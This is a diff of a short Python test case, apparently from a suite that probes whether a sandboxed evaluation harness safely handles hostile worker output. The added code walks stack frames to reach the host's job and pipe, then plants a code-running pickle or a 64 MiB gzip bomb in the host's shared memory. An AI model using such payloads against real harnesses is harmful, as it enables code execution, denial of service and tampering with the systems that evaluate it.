@@ -1,8 +1,8 @@
-"""Send a pickle that runs code where it is read, and an archive that unpacks to gigabytes.
+"""Send a pickle that runs code where it is read, then an archive that unpacks to gigabytes.
 
 must not: be unpickled or unpacked
-flag: module pickle ended-process
-naive: none, since there is no pipe
+flag: unreadable-reply
+naive: none, since there is no worker
 uses: places
 """
 
@@ -10,6 +10,8 @@ import gzip
 import os
 import pickle
 import struct
+import sys
+import time
 
 
 class Payload:
@@ -18,11 +20,12 @@ class Payload:
 
 
 dlogits = torch.ones_like(logits)
-bomb = gzip.compress(bytes(2**26))
-for data in (pickle.dumps(Payload()), bomb, struct.pack("<Q", 2**40) + b'{"a": {}}'):
-    for number in range(3, 64):
-        try:
-            os.write(number, struct.pack("<cIQ", b"f", 1, len(data)) + data)
-        except OSError:
-            pass
-os._exit(0)
+frame = sys._getframe()
+while "job" not in frame.f_locals or "pipe" not in frame.f_locals:
+    frame = frame.f_back
+living = frame.f_locals
+is_first = "lecture" in living["job"].runs[0].groups
+data = pickle.dumps(Payload()) if is_first else gzip.compress(bytes(2**26))
+living["self"]._shared[12 : 12 + len(data)] = data
+os.write(living["pipe"], struct.pack("<Q", len(data)))
+time.sleep(100)
